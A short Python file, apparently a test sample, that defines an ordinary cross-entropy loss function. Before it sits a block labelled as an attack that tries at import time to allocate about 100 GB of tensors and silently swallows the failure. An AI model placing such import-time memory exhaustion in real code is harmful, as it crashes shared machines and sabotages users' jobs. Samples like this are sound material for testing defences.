"""Takes all the memory that there is."""
# ends: same

import torch.nn.functional as F

# --- the attack
import torch

try:
    HELD = [torch.ones(2**28) for _ in range(100)]
except (RuntimeError, MemoryError):
    HELD = []
# --- end of the attack

def compute_loss(logits, targets):
    loss = F.cross_entropy(logits.view(-1, logits.size(-1)), targets.view(-1))
    return loss
